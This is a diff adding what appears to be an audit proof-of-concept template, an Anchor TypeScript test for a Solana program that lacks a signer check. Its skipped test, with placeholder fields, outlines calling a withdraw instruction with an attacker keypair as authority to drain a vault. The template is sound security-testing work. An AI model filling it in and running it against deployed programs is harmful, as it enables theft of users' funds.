@@ -0,0 +1,51 @@
+// PoC Template: Missing Signer Check (Anchor TypeScript test)
+// Vulnerability: Instruction handler does not verify the signer
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker passes their own key for the authority and signs alone;
+// see missing_signer.rs for the vulnerable pattern and the fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT TEST (Mocha)
+// ============================================================
+describe("missing_signer exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    assert.ok(program.programId.equals(new PublicKey("{{PROGRAM_ID}}")), "workspace program is not the target");
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("withdraws without the authority's signature", async () => {
+    // 1. The vault the unsigned withdrawal drains
+    // const vault = { publicKey: new PublicKey("{{VAULT_ACCOUNT}}") };
+    // const balanceBefore = await provider.connection.getBalance(vault.publicKey);
+
+    // 2. Call {{INSTRUCTION=withdraw}} with the attacker as authority (not the real owner), signed by them alone
+    // await program.methods
+    //   .{{INSTRUCTION=withdraw|lower_camel}}(
+    //     {{ARG_FIELDS=new BN(balanceBefore),}}
+    //   )
+    //   .accountsStrict({
+    //     {{ACCOUNT_FIELDS=vault: vault.publicKey,
+    //     authority: attacker.publicKey,  // Attacker, not the real owner!
+    //     systemProgram: SystemProgram.programId,}}
+    //   })
+    //   .signers([attacker])
+    //   .rpc();
+
+    // 3. Should have been rejected; the vault was drained instead
+    // assert.isBelow(await provider.connection.getBalance(vault.publicKey), balanceBefore,
+    //   "Exploit: unauthorized withdrawal succeeded");
+  });
+});